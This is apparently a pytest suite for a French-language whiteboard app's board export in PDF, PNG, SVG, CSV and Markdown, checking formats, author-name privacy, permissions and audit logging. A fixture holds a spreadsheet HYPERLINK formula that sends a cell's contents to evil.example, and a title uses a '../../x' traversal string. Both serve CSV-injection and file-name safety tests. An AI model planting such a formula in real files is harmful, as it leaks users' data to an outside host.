"""A board taken away: what each file holds, whose names it gives, who may have it, and what it may cost."""

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pypdf
import pytest
from flask.testing import FlaskClient
from PIL import Image
from sqlalchemy import select, update

from models.audit import AuditAction, AuditEntry
from models.ballot import Ballot, BallotChoice
from models.board.export import demo_notes
from models.document import Board, DocumentUpdate, SharedDocument
from models.people import User
from models.session import reading, transaction
from tests.drawing.contents import content_of
from tests.factories import World, make_image
from workspace.drawing import rendering
from workspace.jobs import project

ClientOf = Callable[..., FlaskClient]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"cliquez")'


def write(world: World, content: bytes) -> None:
    """Make this what the world's board holds."""
    with transaction() as session:
        session.execute(
            update(DocumentUpdate)
            .where(DocumentUpdate.document_id == world.board.document_id)
            .values(update=content, checksum=None)
        )


@pytest.fixture
def path(world: World) -> str:
    alice, guest = world.alice.key, world.guests["guest"].key
    notes = [
        (alice, 1, "abricot", "Trois heures de file, l’été"),
        (guest, 2, "lilas", "Personne ne répond 😀"),
        (alice, 2, "jonc", FORMULA),
        (alice, 3, "ciel", "# Titre <b>gras</b> *étoile*\n1. liste"),
    ]
    write(world, demo_notes("defi", notes, connectors=[(alice, 0, 1, "donc")]))
    return f"/boards/{world.board.id}/export"


def file(client: FlaskClient, path: str, kind: str, **query: str) -> bytes:
    answer = client.get(f"{path}/file", query_string={"format": kind, **query})
    assert answer.status_code == 200, answer.text
    return answer.data


def table(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_the_pdf_has_a_page_for_each_zone_then_the_plan_as_text_with_a_title_a_language_and_tags(
    client_of: ClientOf, world: World, path: str
) -> None:
    pdf = pypdf.PdfReader(io.BytesIO(file(client_of(world.alice), path, "pdf")))
    pages = [page.extract_text() for page in pdf.pages]
    assert len(pages) == 7, "six zones and the plan: what only the template wrote outside is no page"
    assert "Ce que vivent les personnes" in pages[0]
    assert "Trois heures" in pages[0]
    assert "Page 1 / 7" in pages[0]
    assert world.board.title in pages[0]
    assert "Personne ne répond" in pages[1].replace("\n", " ")
    assert "Trois heures de file, l’été" in pages[6].replace("\n", " ")
    assert "→" in pages[6]
    assert "donc" in pages[6]
    assert pdf.metadata is not None
    assert pdf.metadata.title == world.board.title
    root = pdf.trailer["/Root"]
    assert root["/Lang"] == "fr-FR"
    assert root["/MarkInfo"]["/Marked"]
    kinds = re.findall(r"/(H1|H2|Figure|L|LI)\b", str(_structure(root["/StructTreeRoot"])))
    assert {"H1", "H2", "Figure", "L", "LI"} <= set(kinds)
    assert all(size == (841.89, 595.28) for size in {_size(page) for page in pdf.pages})
    for page in pdf.pages:
        for font in page["/Resources"]["/Font"].values():
            descriptor = font.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
            assert {"/FontFile2", "/FontFile3"} & set(descriptor), "each font is in the file"


def _size(page: pypdf.PageObject) -> tuple[float, float]:
    return round(float(page.mediabox.width), 2), round(float(page.mediabox.height), 2)


def _structure(node: object, depth: int = 0) -> list[str]:
    found: list[str] = []
    node = node.get_object() if hasattr(node, "get_object") else node
    if isinstance(node, dict) and depth < 30:
        found.append(f"{node.get('/S')} {node.get('/Alt', '')}")
        children = node.get("/K", [])
        for child in children if isinstance(children, list) else [children]:
            found += _structure(child, depth + 1)
    return found


def test_a_page_of_the_pdf_says_what_is_on_it(client_of: ClientOf, world: World, path: str) -> None:
    pdf = pypdf.PdfReader(io.BytesIO(file(client_of(world.alice), path, "pdf", zone="zone-2")))
    assert len(pdf.pages) == 2
    told = " ".join(_structure(pdf.trailer["/Root"]["/StructTreeRoot"]))
    assert "Ce qui gêne aujourd’hui\u00a0: 2 notes" in told


def test_the_png_is_a_picture_of_the_board(client_of: ClientOf, world: World, path: str) -> None:
    image = Image.open(io.BytesIO(file(client_of(world.alice), path, "png"))).convert("RGB")
    assert image.width > 2000
    colours = {colour for _count, colour in image.getcolors(1 << 20) or ()}
    assert (0xFC, 0xB0, 0x7C) in colours, "the fill of an apricot note"


def test_emoji_are_drawn(client_of: ClientOf, world: World, path: str) -> None:
    client = client_of(world.alice)
    assert (
        "Personne ne répond 😀"
        in pypdf.PdfReader(io.BytesIO(file(client, path, "pdf"))).pages[-1].extract_text()
    )
    pictures = set()
    for emoji in ("🌳", "🚌"):
        write(world, content_of({"n": {"type": "note", "x": 0, "y": 0, "text": emoji}}))
        pictures.add(file(client, path, "png"))
    assert len(pictures) == 2, "one box for all of them would be one picture"


def test_the_svg_embeds_what_the_board_shows(client_of: ClientOf, world: World, path: str) -> None:
    with transaction() as session:
        image = make_image(session, world.board.document_id, world.alice)
        name = image.name
    write(world, content_of({"i": {"type": "image", "image": name, "x": 0, "y": 0, "text": "La cour"}}))
    client = client_of(world.alice)
    svg = file(client, path, "svg").decode()
    assert "data:image/webp;base64," in svg
    assert "<title>La cour</title>" in svg
    assert file(client, path, "png").startswith(b"\x89PNG")
    assert "La cour" in pypdf.PdfReader(io.BytesIO(file(client, path, "pdf"))).pages[-1].extract_text()


def test_the_table_has_a_row_for_each_note_and_no_cell_that_computes(
    client_of: ClientOf, world: World, path: str
) -> None:
    project.run(world.board.document_id, datetime(2026, 3, 2, 9, 30, tzinfo=UTC))
    rows = table(file(client_of(world.alice), path, "csv"))
    assert rows[0] == ["Cadre", "Texte", "Auteur·rice", "Couleur", "Créée le", "Modifiée le"]
    assert rows[1] == [
        "1. Ce que vivent les personnes",
        "Trois heures de file, l’été",
        world.alice.name,
        "Abricot",
        "2026-03-02 10:30",
        "2026-03-02 10:30",
    ]
    assert rows[3][1] == "'" + FORMULA
    assert len(rows) == 5


def test_the_table_has_the_votes_of_a_ballot_once_it_is_closed(
    client_of: ClientOf, world: World, path: str
) -> None:
    with transaction() as session:
        ballot = Ballot(board_id=world.board.id, actor_key=world.alice.key, points=3)
        session.add(ballot)
        session.flush()
        chosen = BallotChoice(
            ballot_id=ballot.id, object_id="demo-0", place=0, author=world.alice.key, points=4
        )
        session.add(chosen)
        ballot_id = ballot.id
    assert len(table(file(client_of(world.alice), path, "csv"))[0]) == 6, "an open ballot tells nothing"
    with transaction() as session:
        session.get_one(Ballot, ballot_id).closed_at = datetime.now(UTC)
    rows = table(file(client_of(world.alice), path, "csv"))
    assert [row[4] for row in rows] == ["Votes", "4", "0", "0", "0"]


def test_when_a_note_changed_is_another_time_than_when_it_came(
    world: World, path: str, client_of: ClientOf
) -> None:
    project.run(world.board.document_id, datetime(2026, 3, 2, 9, 30, tzinfo=UTC))
    write(world, demo_notes("defi", [(world.alice.key, 1, "abricot", "Quatre heures")]))
    project.run(world.board.document_id, datetime(2026, 3, 3, 9, 30, tzinfo=UTC))
    row = table(file(client_of(world.alice), path, "csv"))[1]
    assert row[4:] == ["2026-03-02 10:30", "2026-03-03 10:30"]


def test_markdown_says_what_is_written_and_no_markup_of_theirs(
    client_of: ClientOf, world: World, path: str
) -> None:
    text = file(client_of(world.alice), path, "md").decode()
    assert text.startswith(f"# {world.board.title}\n")
    assert "## 1\\. Ce que vivent les personnes\n\n- Trois heures de file, l’été\n" in text
    assert "- \\# Titre \\<b\\>gras\\</b\\> \\*étoile\\*  \n  1\\. liste\n" in text
    assert "- Trois heures de file, l’été → Personne ne répond 😀 : donc\n" in text


def test_a_chosen_part_holds_nothing_else(client_of: ClientOf, world: World, path: str) -> None:
    client = client_of(world.alice)
    for query in ({"zone": "zone-1"}, {"ids": "demo-0"}):
        for kind in ("svg", "md", "csv"):
            text = file(client, path, kind, **query).decode()
            assert "Trois heures" in text, (query, kind)
            assert "Personne ne répond" not in text, (query, kind)
    assert client.get(f"{path}/file?format=svg&zone=nowhere").status_code == 404
    assert client.get(f"{path}/file?format=exe").status_code == 404


@pytest.mark.parametrize(
    ("name", "guests_name", "alices_name"),
    [
        ("alice", "full", "full"),
        ("tutor", "full", "full"),
        ("partner", "first", "first"),
        ("guest", "first", "first"),
        ("observer", "Habitant·e", "Équipe"),
    ],
)
def test_authors_are_named_as_on_the_board(
    client_of: ClientOf, world: World, path: str, name: str, guests_name: str, alices_name: str
) -> None:
    with transaction() as session:
        session.execute(update(Board).where(Board.id == world.board.id).values(open_to_observers=True))
        session.execute(update(User).where(User.id == world.alice.id).values(name="Alice Longnom"))
    client = client_of(world.people.get(name), guest=world.guests.get(name))
    rows = table(file(client, path, "csv"))
    told = {"full": "Alice Longnom", "first": "Alice"}
    assert rows[1][2] == told.get(alices_name, alices_name)
    guest = world.guests["guest"].name
    assert rows[2][2] == {"full": guest, "first": guest.split(" ")[0]}.get(guests_name, rows[2][2])
    for kind in ("svg", "md", "csv", "pdf"):
        content = file(client, path, kind)
        text = content.decode(errors="ignore")
        if kind == "pdf":
            text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)
        assert ("Longnom" in text) == (alices_name == "full" and kind in ("csv", "pdf")), kind
        assert "@exemple.fr" not in text


def test_who_may_not_read_the_board_may_not_take_it(client_of: ClientOf, world: World, path: str) -> None:
    board = f"/boards/{world.board.id}"
    for where in (path, f"{path}/file?format=csv", f"{board}/print", f"{board}/picture.svg"):
        assert client_of(world.observer).get(where).status_code == 403, where
        assert client_of(world.zoe).get(where).status_code == 404, where
        assert client_of(world.alice).get(where).status_code == 200, where


def test_file_names_can_be_read_and_are_safe(client_of: ClientOf, world: World, path: str) -> None:
    with transaction() as session:
        title = 'Été : "../../x" ' + "long " * 40
        session.execute(update(Board).where(Board.id == world.board.id).values(title=title[:160]))
    answer = client_of(world.alice).get(f"{path}/file?format=md")
    said = answer.headers["Content-Disposition"]
    assert said.startswith("attachment; ")
    assert re.search(r"filename\*=UTF-8''Tableau%20-%20%C3%89t%C3%A9%20.*-%202\d\d\d-\d\d-\d\d\.md$", said)
    assert "/" not in said.replace("UTF-8''", "")
    assert len(said) < 400


def test_taking_a_board_away_is_in_the_audit_log(client_of: ClientOf, world: World, path: str) -> None:
    file(client_of(world.alice), path, "md")
    with reading() as session:
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORT_DOWNLOADED)
        ).one()
    assert entry.project_id == world.project.id
    assert "board" in entry.details


def test_the_small_picture_is_asked_for_each_time_and_sent_when_the_board_changed(
    client_of: ClientOf, world: World, path: str
) -> None:
    client, address = client_of(world.alice), f"/boards/{world.board.id}/picture.svg"
    first = client.get(address)
    assert first.headers["Cache-Control"] == "private, no-cache"
    assert "sandbox" in first.headers["Content-Security-Policy"]
    assert "Trois" not in first.text, "small: no words"
    again = client.get(address, headers={"If-None-Match": first.headers["ETag"]})
    assert (again.status_code, again.data) == (304, b"")
    with transaction() as session:
        session.add(
            DocumentUpdate(
                document_id=world.board.document_id, seq=2, update=b"\0\0", actor_keys=world.alice.key
            )
        )
        session.execute(
            update(SharedDocument).where(SharedDocument.id == world.board.document_id).values(last_seq=2)
        )
    assert client.get(address, headers={"If-None-Match": first.headers["ETag"]}).status_code == 200
    large = client.get(f"{address}?size=large")
    assert "Trois heures de" in large.text


def test_the_page_to_print_has_a_sheet_for_each_zone_and_the_plan(
    client_of: ClientOf, world: World, path: str
) -> None:
    page = client_of(world.alice).get(f"/boards/{world.board.id}/print").text
    assert page.count('class="paper-sheet"') == 6
    assert "Trois heures de file, l’été" in page
    assert "&lt;b&gt;gras" in page
    one = client_of(world.alice).get(f"/boards/{world.board.id}/print?zone=zone-2").text
    assert one.count('class="paper-sheet"') == 1
    assert "Trois heures" not in one


def test_a_board_that_cannot_be_read_is_refused_with_a_sentence(
    client_of: ClientOf, world: World, path: str
) -> None:
    write(world, b"\xff")
    for where in (path, f"{path}/file?format=pdf", f"/boards/{world.board.id}/picture.svg"):
        assert client_of(world.alice).get(where).status_code == 409


def test_a_process_apart_makes_the_same_of_a_large_board(
    client_of: ClientOf, world: World, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = client_of(world.alice)
    here = [file(client, path, kind) for kind in ("svg", "csv", "md")]
    monkeypatch.setattr(rendering, "SMALL_BYTES", 0)
    assert [file(client, path, kind) for kind in ("svg", "csv", "md")] == here
    assert client.get(f"{path}/file?format=svg&zone=nowhere").status_code == 404
    write(world, b"\xff")
    assert client.get(f"{path}/file?format=svg").status_code == 409
